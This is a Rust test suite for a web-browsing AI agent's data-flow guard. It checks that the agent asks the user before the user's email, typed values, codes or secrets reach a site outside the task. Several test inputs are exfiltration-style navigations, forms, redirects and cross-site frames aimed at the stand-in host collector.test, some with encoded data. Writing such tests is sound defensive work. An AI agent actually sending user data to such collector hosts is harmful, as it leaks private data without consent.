use crate::agent::fakes::{config, critic, outcomes, reply, run_as, FakeShop, FakeUser, ScriptedModel};
use crate::agent::{AgentEvent, Limits, LiveLimits, TaskConfig};
use crate::browser::PageOp;
use crate::browser::Submission;
use crate::llm::LlmError;
use crate::safety::{Secret, Secrets, SitePlan, SitePolicy};

const TASK: &str = "sign me up for the newsletter with ada@example.org";

fn done() -> Result<String, LlmError> {
    reply(r#"[{"do":"done","text":"ok","success":true}]"#)
}

fn user(approves: bool) -> FakeUser {
    FakeUser { approves, asked: Default::default(), reviews: Default::default() }
}

fn task_config() -> TaskConfig {
    TaskConfig { task: TASK.into(), ..config(6) }
}

/// A task that holds nothing of the user's.
fn plain_config() -> TaskConfig {
    TaskConfig { task: "find a newsletter to sign up for".into(), ..config(6) }
}

/// Runs the steps (then `done`) as `user`; returns the events.
fn run_steps(config: &TaskConfig, shop: &FakeShop, steps: &[&str], user: &FakeUser) -> Vec<AgentEvent> {
    let mut replies: Vec<_> = steps.iter().map(|actions| reply(actions)).collect();
    replies.push(done());
    run_as(config, shop, &ScriptedModel::new(replies), user).1
}

/// The approval questions asked, with the data each named.
fn questions(events: &[AgentEvent]) -> Vec<(String, Vec<String>)> {
    events
        .iter()
        .filter_map(|event| match event {
            AgentEvent::ApprovalNeeded { question, data, .. } => Some((question.to_string(), data.clone())),
            _ => None,
        })
        .collect()
}

fn clicks(shop: &FakeShop) -> usize {
    shop.ops.borrow().iter().filter(|op| matches!(op, PageOp::Click { .. })).count()
}

#[test]
fn a_navigation_carrying_the_user_s_data_waits_for_the_user() {
    let shop = FakeShop::new();
    let go = r#"[{"do":"go_to_url","url":"http://collector.test/c?e=ada%40example.org"}]"#;
    let events = run_steps(&task_config(), &shop, &[go], &user(false));
    assert_eq!(
        questions(&events),
        vec![(
            "This would send ada@example.org (an email address from your task) to collector.test, by opening http://collector.test/c?e=ada%40example.org. Allow it?".to_string(),
            vec!["ada@example.org".to_string()]
        )]
    );
    assert_eq!(*shop.url.borrow(), "http://shop.test/", "not opened");
    assert!(outcomes(&events)[0].starts_with("The user did not allow sending ada@example.org to collector.test."));

    // Allowed once, the site is one the user chose: the next flow there does not ask again.
    let shop = FakeShop::new();
    let again = r#"[{"do":"open_tab","url":"http://collector.test/d?e=ada@example.org"}]"#;
    let events = run_steps(&task_config(), &shop, &[go, again], &user(true));
    assert_eq!(questions(&events).len(), 1);
    assert_eq!(shop.tabs.borrow().last().unwrap().url, "http://collector.test/d?e=ada@example.org");
}

#[test]
fn benign_navigations_do_not_ask() {
    let shop = FakeShop::new();
    let steps = [
        r#"[{"do":"go_to_url","url":"http://shop.test/account?e=ada@example.org"}]"#, // the start site
        r#"[{"do":"go_to_url","url":"http://other.test/"}]"#,                         // a bare site
        r#"[{"do":"click_element","index":4,"click":null}]"#,                         // a page's own link
        r#"[{"do":"search","query":"newsletter sign up ada"}]"#,
    ];
    let events = run_steps(&plain_config(), &shop, &steps, &user(false));
    assert_eq!(questions(&events), vec![]);
    assert!(shop.url.borrow().starts_with("https://duckduckgo.com/?q=newsletter"));
}

#[test]
fn an_address_the_agent_wrote_for_another_site_asks_once_whatever_it_holds() {
    let steps = [
        r#"[{"do":"go_to_url","url":"http://collector.test/?u=ada%20at%20example%20dot%20org"}]"#,
        r#"[{"do":"open_tab","url":"http://collector.test/?u=gro.elpmaxe@ada"}]"#,
    ];
    let shop = FakeShop::new();
    let events = run_steps(&task_config(), &shop, &steps, &user(false));
    let asked = questions(&events);
    assert_eq!(asked.len(), 2, "{asked:?}");
    assert_eq!(asked[0].0, "The agent wrote collector.test/?u=ada%20at%20example%20dot%20org itself and would send it to collector.test, a site you have not chosen, by opening http://collector.test/?u=ada%20at%20example%20dot%20org. What an agent writes can carry your data in a form no check can read (spelled out, reversed, in pieces). Allow it?");
    assert_eq!(asked[1].1, vec!["collector.test/?u=gro.elpmaxe@ada".to_string()]);
    assert_eq!(*shop.url.borrow(), "http://shop.test/", "not opened");
    assert_eq!(shop.tabs.borrow().len(), 1, "no tab opened");
    assert!(outcomes(&events)[0].starts_with("The user did not allow sending what you wrote (collector.test/?u=ada%20at%20example%20dot%20org) to collector.test, a site they did not choose."));

    // Allowed once, the site is chosen for the rest of the task.
    let shop = FakeShop::new();
    let events = run_steps(&task_config(), &shop, &steps, &user(true));
    assert_eq!(questions(&events).len(), 1);
    assert_eq!(shop.tabs.borrow().last().unwrap().url, "http://collector.test/?u=gro.elpmaxe@ada");
}

#[test]
fn a_new_tab_a_link_asks_for_is_checked_where_the_page_s_handlers_left_it_before_it_opens() {
    let click = r#"[{"do":"click_element","index":4,"click":null}]"#;
    // A click handler rewrote the link to carry the user's e-mail address.
    let shop = FakeShop::new();
    *shop.reviews_new_tab.borrow_mut() = Some("http://collector.test/r?e=ada@example.org".into());
    let events = run_steps(&task_config(), &shop, &[click], &user(false));
    let asked = questions(&events);
    assert!(asked[0].0.starts_with("This would send ada@example.org (an email address from your task) to collector.test, by opening http://collector.test/r?e=ada@example.org in a new tab"), "{asked:?}");
    assert_eq!(shop.tabs.borrow().len(), 1, "no tab opened");
    // ...or to a denied site: refused without a question.
    let shop = FakeShop::new();
    *shop.reviews_new_tab.borrow_mut() = Some("http://collector.test/landing".into());
    let denied = TaskConfig {
        limits: LiveLimits::new(Limits {
            policy: SitePolicy::new(&[], &["collector.test".into()]).unwrap(),
            ..Limits::default()
        }),
        ..task_config()
    };
    let events = run_steps(&denied, &shop, &[click], &user(true));
    assert_eq!(questions(&events), vec![]);
    assert!(
        outcomes(&events)[0]
            .contains("The page asked for a new tab at http://collector.test/landing, which was not opened: "),
        "{:?}",
        outcomes(&events)
    );
    assert_eq!(shop.tabs.borrow().len(), 1, "no tab opened");
    // A link to the start site opens, and the task goes on there.
    let shop = FakeShop::new();
    *shop.reviews_new_tab.borrow_mut() = Some("http://shop.test/reviews".into());
    let events = run_steps(&task_config(), &shop, &[click], &user(false));
    assert_eq!(questions(&events), vec![]);
    assert!(
        outcomes(&events)[0].contains("Opened http://shop.test/reviews in a new tab, t2"),
        "{:?}",
        outcomes(&events)
    );
    assert_eq!(shop.tabs.borrow().last().unwrap().url, "http://shop.test/reviews");
}

#[test]
fn keys_typed_into_a_site_not_chosen_ask_as_typing_does() {
    let shop = FakeShop::new();
    let steps = [r#"[{"do":"go_to_url","url":"http://other.test/"}]"#, r#"[{"do":"send_keys","keys":"a d a Enter"}]"#];
    let events = run_steps(&plain_config(), &shop, &steps, &user(false));
    let asked = questions(&events);
    assert_eq!(asked.len(), 1, "{asked:?}");
    assert!(asked[0].0.starts_with("The agent wrote ada itself and would send it to other.test"), "{asked:?}");
    let pressed = shop.ops.borrow().iter().any(|op| matches!(op, PageOp::Keys { .. }));
    assert!(!pressed, "no key pressed");
}

#[test]
fn a_link_rewritten_to_carry_the_data_is_not_followed_unless_allowed() {
    let shop = FakeShop::new();
    *shop.reviews_href.borrow_mut() = "http://collector.test/r?u=YWRhQGV4YW1wbGUub3Jn".into();
    let events =
        run_steps(&task_config(), &shop, &[r#"[{"do":"click_element","index":4,"click":null}]"#], &user(false));
    let (question, data) = &questions(&events)[0];
    assert!(question.starts_with("This would send ada@example.org (an email address from your task) to collector.test, by following the link <a> \"Reviews\" [4] to http://collector.test/r?u=YWRhQGV4YW1wbGUub3Jn."), "{question}");
    assert_eq!(data, &vec!["ada@example.org".to_string()]);
    assert_eq!(clicks(&shop), 0);
}

fn collector_form(value: &str) -> Option<Submission> {
    Some(Submission {
        action: "http://collector.test/subscribe".into(),
        method: "post".into(),
        fields: vec![("email".into(), value.into())],
    })
}

#[test]
fn a_form_posting_the_data_to_another_site_is_not_submitted_unless_allowed() {
    let shop = FakeShop::new();
    *shop.form.borrow_mut() = collector_form("ada@example.org");
    let events =
        run_steps(&task_config(), &shop, &[r#"[{"do":"click_element","index":1,"click":null}]"#], &user(false));
    let (question, _) = &questions(&events)[0];
    assert!(
        question.contains(
            "by clicking <button> \"Add blue mug\" [1], which submits a form to http://collector.test/subscribe"
        ),
        "{question}"
    );
    assert_eq!(shop.cart.get(), 0, "not clicked");

    // Enter in a field of that form.
    let shop = FakeShop::new();
    *shop.form.borrow_mut() = collector_form("ada@example.org");
    let events = run_steps(&task_config(), &shop, &[r#"[{"do":"send_keys","keys":"Enter"}]"#], &user(false));
    assert!(questions(&events)[0].0.contains("by pressing Enter, which submits a form"));
    let shop = FakeShop::new();
    *shop.form.borrow_mut() = collector_form("ada@example.org");
    let events = run_steps(&task_config(), &shop, &[r#"[{"do":"send_keys","keys":"Tab Enter"}]"#], &user(false));
    assert_eq!(questions(&events), vec![], "refused outright: after Tab, Enter presses what no check sees");
    assert!(
        outcomes(&events)[0].starts_with("Not pressed: after Tab the focus may be on anything"),
        "{:?}",
        outcomes(&events)
    );
    assert!(!shop.ops.borrow().iter().any(|op| matches!(op, PageOp::Keys { .. })), "no key pressed");
    let shop = FakeShop::new();
    let steps = [r#"[{"do":"send_keys","keys":"Tab"}]"#, r#"[{"do":"send_keys","keys":"Space"}]"#];
    let events = run_steps(&plain_config(), &shop, &steps, &user(false));
    assert!(
        outcomes(&events)[1].starts_with("Not pressed: after Tab"),
        "Space in a later step: {:?}",
        outcomes(&events)
    );

    // The same form posting to the start site is the user's own.
    let shop = FakeShop::new();
    *shop.form.borrow_mut() =
        Some(Submission { action: "http://shop.test/subscribe".into(), ..collector_form("ada@example.org").unwrap() });
    // Posting it changes something: the critic reads the user's words, which ask for it.
    let model =
        ScriptedModel::new(vec![reply(r#"[{"do":"click_element","index":1,"click":null}]"#), critic(true), done()]);
    let events = run_as(&task_config(), &shop, &model, &user(false)).1;
    assert_eq!(questions(&events), vec![]);
    assert_eq!(shop.cart.get(), 1);
    let probes = shop.ops.borrow().iter().filter(|op| matches!(op, PageOp::Submission { .. })).count();
    assert_eq!(probes, 1, "the data-flow check and the consequence check read the form once between them");
}

#[test]
fn typing_the_data_into_a_page_of_a_new_site_asks_and_typed_values_are_followed() {
    // The task started on shop.test; the page is now collector.test's.
    let shop = FakeShop::new();
    *shop.url.borrow_mut() = "http://collector.test/join".into();
    let events = run_steps(
        &task_config(),
        &shop,
        &[r#"[{"do":"input_text","index":2,"text":"ada@example.org","clear":null}]"#],
        &user(false),
    );
    assert_eq!(
        questions(&events)[0].0,
        "This would send ada@example.org (an email address from your task) to collector.test, by typing it into <textarea> [2] on collector.test. Allow it?"
    );
    assert_eq!(*shop.note.borrow(), "", "nothing typed");
    // Where the task started, typing is the user's own.
    let shop = FakeShop::new();
    let events = run_steps(
        &task_config(),
        &shop,
        &[r#"[{"do":"input_text","index":2,"text":"ada@example.org","clear":null}]"#],
        &user(false),
    );
    assert_eq!(questions(&events), vec![]);
    assert_eq!(*shop.note.borrow(), "ada@example.org");

    let shop = FakeShop::new();
    let steps = [
        r#"[{"do":"input_text","index":2,"text":"Grace Hopper","clear":null}]"#,
        r#"[{"do":"go_to_url","url":"http://collector.test/?n=grace+hopper"}]"#,
    ];
    let events = run_steps(&task_config(), &shop, &steps, &user(false));
    let asked = questions(&events);
    assert_eq!(asked.len(), 1);
    assert!(
        asked[0].0.starts_with("This would send Grace Hopper (a value typed on shop.test) to collector.test"),
        "{asked:?}"
    );
}

#[test]
fn a_secret_never_leaves_its_sites_and_the_user_is_told() {
    let secrets = Secrets::new(vec![Secret {
        name: "pin".into(),
        value: "Orbit-4242".into(),
        domains: vec!["shop.test".into()],
    }])
    .unwrap();
    let config = TaskConfig { limits: LiveLimits::new(Limits { secrets, ..Limits::default() }), ..task_config() };
    let shop = FakeShop::new();
    *shop.form.borrow_mut() = collector_form("Orbit-4242");
    let events = run_steps(&config, &shop, &[r#"[{"do":"click_element","index":1,"click":null}]"#], &user(true));
    assert_eq!(questions(&events), vec![], "never asked: the answer could not change it");
    assert_eq!(shop.cart.get(), 0);
    assert!(outcomes(&events)[0].starts_with(
        "Not done: it would send your secret \"pin\" to collector.test, which is not among the sites listed for it"
    ));
    let warning = events.iter().find_map(|e| match e {
        AgentEvent::Warning { message } => Some(message.clone()),
        _ => None,
    });
    assert!(warning.unwrap().starts_with("The agent was stopped from clicking <button>"));
}

#[test]
fn data_read_on_a_page_asks_before_going_to_another_site() {
    let shop = FakeShop::new();
    *shop.note.borrow_mut() = "Your one-time code is 482913".into();
    let go = r#"[{"do":"go_to_url","url":"http://collector.test/?c=482913"}]"#;
    let events = run_steps(&task_config(), &shop, &[go], &user(false));
    let asked = questions(&events);
    assert!(
        asked[0].0.starts_with("This would send 482913 (a number read on shop.test) to collector.test"),
        "{asked:?}"
    );
}

#[test]
fn the_site_plan_shows_or_asks_about_sites_outside_it() {
    let go = r#"[{"do":"go_to_url","url":"http://other.test/"}]"#;
    let strict = TaskConfig {
        limits: LiveLimits::new(Limits { site_plan: SitePlan::Strict, ..Limits::default() }),
        ..task_config()
    };
    let shop = FakeShop::new();
    let events = run_steps(&strict, &shop, &[go], &user(false));
    assert_eq!(
        questions(&events)[0].0,
        "The agent wants to go to other.test, which is not among the sites planned for this task (shop.test), by opening http://other.test/. Allow it?",
        "the plan's question, not the data's as well"
    );
    assert_eq!(questions(&events).len(), 1);
    assert_eq!(*shop.url.borrow(), "http://shop.test/");

    let ask = TaskConfig {
        limits: LiveLimits::new(Limits { site_plan: SitePlan::Ask, ..Limits::default() }),
        ..plain_config()
    };
    let shop = FakeShop::new();
    let events = run_steps(&ask, &shop, &[go], &user(false));
    assert_eq!(questions(&events), vec![]);
    assert!(events.iter().any(|e| matches!(e, AgentEvent::Warning { message } if message.starts_with("The agent went to other.test, which is not among the sites planned"))));
    assert_eq!(*shop.url.borrow(), "http://other.test/");
}

#[test]
fn the_planner_s_sites_once_confirmed_are_in_the_plan() {
    let plan = r#"{"analysis":"a","progress":"p","challenges":"c","next_steps":["go"],"steps_done":0,"web_task":true,"answer":null,"sites":["shop.test","other.test"]}"#;
    let strict = TaskConfig {
        limits: LiveLimits::new(Limits { site_plan: SitePlan::Strict, ..Limits::default() }),
        planning_interval: Some(5),
        ..task_config()
    };
    let go = reply(r#"[{"do":"go_to_url","url":"http://other.test/about"}]"#);
    let shop = FakeShop::new();
    let model = ScriptedModel::new(vec![Ok(plan.into()), go, done()]);
    let (_, events) = run_as(&strict, &shop, &model, &user(true));
    assert_eq!(
        questions(&events),
        vec![(
            "The plan for this task uses these sites: other.test. Allow the agent to use them? (It will ask you before going to any other.)".to_string(),
            vec!["other.test".to_string()]
        )],
        "asked once, for the plan; the visit itself is in it"
    );
    assert_eq!(*shop.url.borrow(), "http://other.test/about");
}

#[test]
fn while_the_task_holds_the_user_s_data_its_first_act_on_another_site_asks_once() {
    let go = r#"[{"do":"go_to_url","url":"http://other.test/"}]"#;
    let click = r#"[{"do":"click_element","index":1,"click":null}]"#;
    let shop = FakeShop::new();
    let events = run_steps(&task_config(), &shop, &[go], &user(false));
    let asked = questions(&events);
    assert_eq!(asked.len(), 1, "{asked:?}");
    assert!(asked[0].0.starts_with("The task holds your data (ada@example.org (an email address from your task)), and this would act on other.test, a site outside the task's sites, by opening http://other.test/."), "{asked:?}");
    assert_eq!(asked[0].1, vec!["ada@example.org".to_string()]);
    assert!(outcomes(&events)[0]
        .starts_with("The user did not allow acting on other.test, a site outside the task's sites"));
    assert_eq!(*shop.url.borrow(), "http://shop.test/", "not opened");
    // Allowed, other.test is one of the task's sites: acting there asks nothing more.
    let shop = FakeShop::new();
    let events = run_steps(&task_config(), &shop, &[go, click], &user(true));
    assert_eq!(questions(&events).len(), 1);
    assert_eq!(shop.cart.get(), 1, "the click on other.test ran");
}

/// A frame of collector.test on the shop's page, an on-screen keyboard of one key ("7").
fn keyboard_frame_on(shop: &FakeShop) {
    use crate::dom_map::tests::{node, page, with_attrs};
    use crate::dom_map::RawFrame;
    let mut frame = with_attrs(node(30, Some(0), "iframe", ""), &[("title", "keyboard")]);
    frame.rect = [0.0, 100.0, 300.0, 80.0];
    shop.extra_nodes.borrow_mut().push(frame);
    let mut key = node(2, Some(0), "button", "7");
    key.rect = [10.0, 10.0, 40.0, 40.0];
    let mut keyboard = page(vec![node(1, None, "body", ""), key]);
    (keyboard.doc, keyboard.host, keyboard.url) =
        ("keyboard".into(), "doc-1:30".into(), "http://collector.test/keyboard".into());
    shop.extra_frames.borrow_mut().push(RawFrame { frame_id: 3, page: Ok(keyboard) });
}

/// The task's config with trusted input.
fn trusted_config() -> TaskConfig {
    TaskConfig { limits: LiveLimits::new(Limits { trusted_input: true, ..Limits::default() }), ..task_config() }
}

/// `step`, on the shop with the keyboard frame, asks once about the frame's site, the user
/// refuses, and no trusted key is sent.
fn asks_about_the_frame_and_sends_no_key(config: &TaskConfig, step: &str) {
    let shop = FakeShop::new();
    keyboard_frame_on(&shop);
    let events = run_steps(config, &shop, &[step], &user(false));
    let asked = questions(&events);
    assert_eq!(asked.len(), 1, "{step}: {asked:?}");
    assert!(asked[0].0.contains("collector.test"), "{asked:?}");
    assert!(shop.input_commands.borrow().is_empty(), "{step}: no key sent");
}

#[test]
fn trusted_typing_lands_on_every_frame_of_the_page_as_a_frame_may_take_the_focus() {
    let trusted = trusted_config();
    let typing = r#"[{"do":"input_text","index":2,"text":"ada@example.org","clear":null}]"#;
    asks_about_the_frame_and_sends_no_key(&trusted, typing);
    // The sensor's typing goes into the field itself; and a page without another site's frame
    // takes trusted typing freely.
    for (config, frame) in [(task_config(), true), (trusted, false)] {
        let shop = FakeShop::new();
        if frame {
            keyboard_frame_on(&shop);
        }
        let events = run_steps(&config, &shop, &[typing], &user(false));
        assert_eq!(questions(&events), vec![]);
        let typed = shop.note.borrow().clone() + &shop.input_params("Input.insertText", "text").concat();
        assert_eq!(typed, "ada@example.org");
    }
}

#[test]
fn an_act_on_an_element_out_of_view_scrolls_the_page_so_it_lands_on_every_frame() {
    // A page 720 px high with the keyboard frame in view and a "Terms" button far below.
    let clicked = |text: &str| {
        let shop = FakeShop::new();
        keyboard_frame_on(&shop);
        shop.viewport.set(Some((1280.0, 720.0)));
        let mut far = crate::dom_map::tests::node(40, Some(0), "button", "Terms");
        far.rect = [0.0, 2000.0, 80.0, 20.0];
        shop.extra_nodes.borrow_mut().push(far);
        let frames = futures::executor::block_on(crate::browser::Browser::observe(&shop, 1)).unwrap();
        let map = crate::dom_map::PageMap::build(&frames, &mut crate::dom_map::ElementRegistry::new()).unwrap();
        let index = map.elements().find(|element| element.text == text).map(|element| element.index).unwrap();
        let press = format!(r#"[{{"do":"click_element","index":{index},"click":null}}]"#);
        let events = run_steps(&task_config(), &shop, &[&press], &user(false));
        (questions(&events), clicks(&shop))
    };
    // In view: the click lands on the shop alone.
    assert_eq!(clicked("Add blue mug"), (vec![], 1));
    // Out of view: scrolled to first, which the frame sees.
    let (asked, pressed) = clicked("Terms");
    assert_eq!((asked.len(), pressed), (1, 0), "{asked:?}");
    assert!(asked[0].0.contains("collector.test"), "{asked:?}");
}

#[test]
fn a_click_in_a_frame_of_another_site_lands_there() {
    let shop = FakeShop::new();
    keyboard_frame_on(&shop);
    let frames = futures::executor::block_on(crate::browser::Browser::observe(&shop, 1)).unwrap();
    let key = crate::dom_map::PageMap::build(&frames, &mut crate::dom_map::ElementRegistry::new())
        .unwrap()
        .elements()
        .find(|element| element.text == "7")
        .map(|element| element.index)
        .expect("the key is in the map");
    let press = format!(r#"[{{"do":"click_element","index":{key},"click":null}}]"#);
    let events = run_steps(&task_config(), &shop, &[&press], &user(false));
    let asked = questions(&events);
    assert_eq!(asked.len(), 1, "{asked:?}");
    assert!(asked[0].0.contains("would act on collector.test, a site outside the task's sites"), "{asked:?}");
    assert!(!shop.ops.borrow().iter().any(|op| matches!(op, PageOp::Click { .. })), "the key was not pressed");
    // A task holding nothing of the user's presses it.
    let shop = FakeShop::new();
    keyboard_frame_on(&shop);
    let events = run_steps(&plain_config(), &shop, &[&press], &user(false));
    assert_eq!(questions(&events), vec![]);
    assert!(shop.ops.borrow().iter().any(|op| matches!(op, PageOp::Click { .. })));
}

#[test]
fn a_redirect_the_firewall_stopped_is_judged_as_the_agent_s_own_navigation() {
    use crate::agent::fakes::Served;
    let open = r#"[{"do":"go_to_url","url":"http://shop.test/out"}]"#;
    let wait = r#"[{"do":"wait","seconds":1}]"#;
    // The start site redirects to another with the user's e-mail: stopped, asked, refused.
    let shop = FakeShop::new();
    let leak = "http://collector.test/c?e=ada@example.org";
    shop.network.borrow_mut().insert("http://shop.test/out".into(), Served::Redirect(leak.into()));
    let events = run_steps(&task_config(), &shop, &[open, wait], &user(false));
    let asked = questions(&events);
    assert_eq!(asked.len(), 1, "asked once: {asked:?}");
    assert!(asked[0].0.starts_with("This would send ada@example.org (an email address from your task) to collector.test, by going on to http://collector.test/c?e=ada@example.org"), "{asked:?}");
    assert!(shop.error_page.get(), "the tab shows the browser's error page, never the collector's");
    assert!(events.iter().any(|e| matches!(e, AgentEvent::Warning { message } if message.to_string().starts_with("A page tried to take the task's tab on to http://collector.test/"))));
    // A task that holds nothing of the user's goes on, as it would have itself.
    let shop = FakeShop::new();
    shop.network.borrow_mut().insert("http://shop.test/out".into(), Served::Redirect("http://other.test/".into()));
    let events = run_steps(&plain_config(), &shop, &[open, wait], &user(false));
    assert_eq!(questions(&events), vec![]);
    assert_eq!(*shop.url.borrow(), "http://other.test/");
    assert!(!shop.error_page.get());
}

#[test]
fn a_page_the_firewall_stopped_and_the_core_passed_loads_with_what_it_sends_held() {
    use crate::agent::fakes::Served;
    // The start site's link hops to another site (free: the task holds nothing), whose page
    // confirms a payee as it loads.
    let shop = FakeShop::new();
    shop.network
        .borrow_mut()
        .insert("http://shop.test/out".into(), Served::Redirect("http://bank.test/confirm".into()));
    *shop.load_sends.borrow_mut() = Some(crate::browser::HeldWrite {
        method: "POST".into(),
        url: "http://bank.test/api/payees".into(),
        kind: "xmlhttprequest".into(),
        body: "payee=Lettings".into(),
    });
    let open = reply(r#"[{"do":"go_to_url","url":"http://shop.test/out"}]"#);
    let model = ScriptedModel::new(vec![open, critic(false), done()]);
    let asker = user(false);
    let (_, events) = run_as(&plain_config(), &shop, &model, &asker);
    assert_eq!(shop.sent.borrow().len(), 0, "nothing sent");
    assert_eq!(questions(&events).len(), 1, "the user was asked once");
    let told = model.state(2);
    assert!(
        told.contains("The page went on to http://bank.test/confirm by itself: Not done: go_to_url on http://bank.test/confirm would change something on the site (POST bank.test/api/payees payee=Lettings)"),
        "{told}"
    );
}

#[test]
fn keys_after_tab_land_on_every_frame_of_the_page() {
    let tab_in = r#"[{"do":"send_keys","keys":"Tab 7"}]"#;
    let shop = FakeShop::new();
    keyboard_frame_on(&shop);
    let events = run_steps(&task_config(), &shop, &[tab_in], &user(false));
    let asked = questions(&events);
    assert_eq!(asked.len(), 1, "{asked:?}");
    assert!(asked[0].0.contains("collector.test"), "{asked:?}");
    assert!(!shop.ops.borrow().iter().any(|op| matches!(op, PageOp::Keys { .. })), "no key pressed");
    // Tab alone, then keys: the focus may be in the frame.
    let shop = FakeShop::new();
    keyboard_frame_on(&shop);
    let steps = [r#"[{"do":"send_keys","keys":"Tab"}]"#, r#"[{"do":"send_keys","keys":"ArrowDown"}]"#];
    let events = run_steps(&plain_config(), &shop, &steps, &user(false));
    assert_eq!(questions(&events), vec![], "a task holding nothing");
    let shop = FakeShop::new();
    keyboard_frame_on(&shop);
    let events = run_steps(&task_config(), &shop, &steps, &user(false));
    assert_eq!(questions(&events).len(), 1, "{:?}", questions(&events));
    // Without Tab, keys stay in the focused field of the page; unless they are trusted, which go
    // wherever the focus is when they arrive, and a frame can take it.
    let seven = r#"[{"do":"send_keys","keys":"7"}]"#;
    let shop = FakeShop::new();
    keyboard_frame_on(&shop);
    let events = run_steps(&task_config(), &shop, &[seven], &user(false));
    assert_eq!(questions(&events), vec![]);
    asks_about_the_frame_and_sends_no_key(&trusted_config(), seven);
}

#[test]
fn scrolling_the_page_lands_on_every_frame_that_watches_it() {
    let scroll = r#"[{"do":"scroll","direction":"down","pages":1,"index":null}]"#;
    let find = r#"[{"do":"scroll_to_text","text":"Reviews"}]"#;
    // A reload reloads every frame: each hears when. Back and forward may move inside a frame's
    // own history, and a scroll by an element that cannot scroll scrolls the page.
    let reload = r#"[{"do":"reload"}]"#;
    let (back, forward) = (r#"[{"do":"go_back"}]"#, r#"[{"do":"go_forward"}]"#);
    let by_link = r#"[{"do":"scroll","direction":"down","pages":1,"index":4}]"#;
    for step in [scroll, find, reload, back, forward, by_link] {
        let shop = FakeShop::new();
        keyboard_frame_on(&shop);
        let events = run_steps(&task_config(), &shop, &[step], &user(false));
        let asked = questions(&events);
        assert_eq!(asked.len(), 1, "{step}: {asked:?}");
        assert!(asked[0].0.contains("collector.test"), "{asked:?}");
        assert!(
            !shop
                .ops
                .borrow()
                .iter()
                .any(|op| matches!(op, PageOp::ScrollPage { .. } | PageOp::ScrollElement { .. } | PageOp::Find { .. })),
            "{step}"
        );
        assert_eq!(*shop.url.borrow(), "http://shop.test/", "{step}");
    }
    // A frame with nothing to act on watches the scroll all the same.
    let shop = FakeShop::new();
    keyboard_frame_on(&shop);
    for frame in shop.extra_frames.borrow_mut().iter_mut() {
        if let Ok(page) = &mut frame.page {
            page.nodes.retain(|node| node.tag != "button");
            page.nodes.push(crate::dom_map::tests::node(3, Some(0), "div", "chapter 1"));
        }
    }
    let events = run_steps(&task_config(), &shop, &[scroll], &user(false));
    assert_eq!(questions(&events).len(), 1, "{:?}", questions(&events));
    // A frame the sensor never reads (it hangs, or keeps the sensor out) is known to the browser.
    let shop = FakeShop::new();
    shop.unread_frames.borrow_mut().extend(["http://collector.test/ad".to_string(), "about:blank".to_string()]);
    let events = run_steps(&task_config(), &shop, &[scroll], &user(false));
    let asked = questions(&events);
    assert_eq!(asked.len(), 1, "{asked:?}");
    assert!(asked[0].0.contains("collector.test"), "{asked:?}");
    // A page without another site's frame scrolls freely, one with a frame of no address of its
    // own (its creator's) too.
    let shop = FakeShop::new();
    shop.unread_frames.borrow_mut().push("about:blank".to_string());
    let events = run_steps(&task_config(), &shop, &[scroll], &user(false));
    assert_eq!(questions(&events), vec![]);
}
